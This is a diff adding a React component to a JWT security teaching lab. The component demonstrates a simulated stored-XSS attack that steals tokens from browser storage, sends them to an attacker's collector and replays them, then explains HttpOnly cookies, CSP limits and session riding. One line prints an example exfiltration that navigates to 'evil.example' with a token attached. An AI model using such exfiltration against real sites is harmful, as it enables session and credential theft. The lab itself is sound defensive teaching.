@@ -1,0 +1,205 @@
+import type { CredentialMode } from '@jwt-lab/shared';
+import { useState } from 'react';
+import type { LabApi, LabResult, Loot, Replay } from '../lab-api';
+import { runXssPayload, type XssOutcome } from '../xss-demo';
+import type { FoundToken } from '../xss-payload';
+import { AnswerLine } from './AnswerLine';
+
+type Run = { state: 'idle' } | { state: 'running' } | { state: 'failed'; message: string } | { state: 'done'; outcome: XssOutcome };
+
+const TOKEN_KIND: Record<string, string> = { 'at+jwt': 'access token', 'rt+jwt': 'refresh token' };
+
+export function XssSection({ lab, mode }: { lab: LabApi; mode: CredentialMode }) {
+  const [run, setRun] = useState<Run>({ state: 'idle' });
+  const [replaying, setReplaying] = useState(false);
+
+  async function start() {
+    setRun({ state: 'running' });
+    const result = await runXssPayload(lab, mode);
+    setRun(result.ok ? { state: 'done', outcome: result.value } : { state: 'failed', message: result.message });
+  }
+
+  async function replayAgain(outcome: XssOutcome) {
+    setReplaying(true);
+    const replay = await lab.replay(outcome.attacker, outcome.loot.id);
+    setReplaying(false);
+    setRun({ state: 'done', outcome: { ...outcome, replay } });
+  }
+
+  return (
+    <div className="lab-part" aria-labelledby="xss-title" role="group">
+      <h3 id="xss-title">Injected script (stored XSS)</h3>
+      <p>
+        Suppose a comment on this page smuggled in a script. This app's Content-Security-Policy refuses inline scripts, so here the
+        button runs the same code as if one had got through: in this page, with this page's rights. It reads{' '}
+        <code>localStorage</code>, <code>sessionStorage</code> and <code>document.cookie</code>, sends what it finds to the
+        attacker's collector, and the attacker replays any token from its own server.
+      </p>
+      <button type="button" disabled={run.state === 'running'} onClick={() => void start()}>
+        Run XSS payload
+      </button>
+      <p role="status" className="lab-status">
+        {run.state === 'running' && 'The payload is running…'}
+        {run.state === 'done' && summary(run.outcome)}
+      </p>
+      {run.state === 'failed' && (
+        <p role="alert" className="notice error">
+          {run.message}
+        </p>
+      )}
+      {run.state === 'done' && <XssReport outcome={run.outcome} replaying={replaying} onReplay={() => void replayAgain(run.outcome)} />}
+    </div>
+  );
+}
+
+function summary({ tokens, replay }: XssOutcome): string {
+  const replayed = replay.ok && replay.value.attempts.some((attempt) => attempt.status === 200);
+  if (tokens.length > 0) return `Stolen: ${tokens.length} token${tokens.length === 1 ? '' : 's'}. The attacker's replay ${replayed ? 'worked' : 'was refused'}.`;
+  return `No token stolen. The attacker's replay ${replayed ? 'worked' : 'was refused'}.`;
+}
+
+function XssReport({ outcome, replaying, onReplay }: { outcome: XssOutcome; replaying: boolean; onReplay: () => void }) {
+  const { loot, tokens, attacker } = outcome;
+  return (
+    <>
+      <h4>What left the page</h4>
+      <p>
+        The collector at <code>{attacker}/collect</code> received this as loot #{loot.id}, from <code>{loot.from ?? 'an unknown page'}</code>:
+      </p>
+      <LootTable loot={loot} tokens={tokens} />
+      <Verdict outcome={outcome} />
+      <h4>The attacker replays it from its own server</h4>
+      <ReplayReport replay={outcome.replay} />
+      <button type="button" className="secondary" disabled={replaying} onClick={onReplay}>
+        Replay the stolen token again
+      </button>
+      {outcome.ride && <SessionRiding ride={outcome.ride} csrfTokenAt={outcome.csrfTokenAt} />}
+      <h4>Why the page's CSP let it out</h4>
+      <p>
+        While the lab is on, the server adds the attacker's site to this page's <code>connect-src</code>, so that this demo's{' '}
+        <code>fetch</code> may reach <code>{attacker}</code>. Without that entry the browser would have blocked this one channel. A
+        strict <code>connect-src</code> is worth having, but it is not a wall: a script that runs can still leak by navigating (
+        <code>location = 'https://evil.example/?' + token</code>) or by opening a window, and <code>connect-src</code> governs
+        neither. The defence that counts is that no attacker script runs at all.
+      </p>
+    </>
+  );
+}
+
+function LootTable({ loot, tokens }: { loot: Loot; tokens: FoundToken[] }) {
+  const rows = lootRows(loot.data);
+  return (
+    <table className="loot">
+      <caption className="hint">Exactly what the collector recorded</caption>
+      <thead>
+        <tr>
+          <th scope="col">Where</th>
+          <th scope="col">Value</th>
+        </tr>
+      </thead>
+      <tbody>
+        {rows.map(({ where, value }) => {
+          const token = tokens.find((found) => found.where === where);
+          return (
+            <tr key={where}>
+              <th scope="row">
+                <code>{where}</code>
+                {token && <span className="stolen"> {TOKEN_KIND[token.typ ?? ''] ?? 'a token'}</span>}
+              </th>
+              <td>{value === '' ? <span className="hint">(empty)</span> : <code>{value}</code>}</td>
+            </tr>
+          );
+        })}
+      </tbody>
+    </table>
+  );
+}
+
+/** localStorage["key"] rows for each storage entry, one row for document.cookie, "(nothing)" for an empty storage. */
+function lootRows(data: Record<string, unknown>): { where: string; value: string }[] {
+  return Object.entries(data).flatMap(([area, content]) => {
+    if (typeof content === 'string') return [{ where: area, value: content }];
+    const entries = typeof content === 'object' && content !== null ? Object.entries(content) : [];
+    if (entries.length === 0) return [{ where: area, value: '' }];
+    return entries.map(([key, value]) => ({ where: `${area}[${JSON.stringify(key)}]`, value: String(value) }));
+  });
+}
+
+function Verdict({ outcome }: { outcome: XssOutcome }) {
+  const { tokens, mode, csrfTokenAt } = outcome;
+  if (tokens.length > 0) {
+    const kinds = [...new Set(tokens.map((token) => TOKEN_KIND[token.typ ?? ''] ?? 'token'))].join(' and the ');
+    return (
+      <p className="notice error">
+        <strong>Stolen: the {kinds}.</strong> They sat in <code>localStorage</code>, where every script on this page can read them. The
+        attacker can use them from anywhere until they expire or the session is logged out; with the refresh token it can even mint
+        new access tokens (and refresh rotation ends the session when both of you use the same one).
+      </p>
+    );
+  }
+  return (
+    <p className="notice">
+      <strong>No token stolen.</strong>{' '}
+      {mode === 'cookie'
+        ? 'The access and refresh tokens are in HttpOnly cookies: document.cookie does not show them to any script, so there is nothing to carry away.'
+        : 'There was no token in the page to take (log in first to see one stolen).'}
+      {csrfTokenAt && (
+        <>
+          {' '}
+          It did take the CSRF token from <code>{csrfTokenAt}</code>. That is not a credential: from the attacker's own server it is
+          useless without your cookies, which stay in your browser.
+        </>
+      )}
+    </p>
+  );
+}
+
+function ReplayReport({ replay }: { replay: LabResult<Replay> }) {
+  if (!replay.ok) return <p role="alert">{replay.message}</p>;
+  const { target, attempts } = replay.value;
+  return (
+    <ul className="replay">
+      {attempts.map((attempt, index) => (
+        <li key={index}>
+          <code>GET {target}</code>{' '}
+          {attempt.credential === 'bearer' ? (
+            <>
+              with <code>Authorization: Bearer</code> and the token from <code>{attempt.tokenFrom}</code>
+            </>
+          ) : (
+            'with no credential at all: nothing usable was stolen'
+          )}
+          , and no cookie (a server is not your browser). The app answered: <AnswerLine status={attempt.status} answer={attempt.answer} />
+          <p className="hint">
+            {attempt.status === 200
+              ? 'The stolen token works for the attacker exactly as for you. Log out (or wait for it to expire), then replay it again: the server refuses it.'
+              : 'The attacker holds nothing the API accepts.'}
+          </p>
+        </li>
+      ))}
+    </ul>
+  );
+}
+
+function SessionRiding({ ride, csrfTokenAt }: { ride: NonNullable<XssOutcome['ride']>; csrfTokenAt: string | null }) {
+  const { result, forwarded } = ride;
+  return (
+    <>
+      <h4>But the script runs inside your page: session riding</h4>
+      <p>
+        It cannot take the token, yet it can use it without seeing it. It asked <code>{result.request}</code> from this page, and the
+        browser attached your HttpOnly cookie by itself, as it does for every request to this site. The app answered:{' '}
+        <AnswerLine status={result.status} answer={result.answer} />
+      </p>
+      <p>
+        {forwarded.ok ? `The script forwarded that answer to the collector too (loot #${forwarded.value.id}). ` : ''}
+        {csrfTokenAt
+          ? 'With the CSRF token it just read, it could as well send requests that change things, such as POST /api/auth/logout-all. '
+          : ''}
+        This request used <code>fetch</code> directly, so it is not in the Request log. HttpOnly keeps the token from leaving the
+        browser; it does not stop a script running in the page from acting as you while the page is open. Only keeping scripts out
+        (output encoding, a CSP without <code>'unsafe-inline'</code>) does.
+      </p>
+    </>
+  );
+}
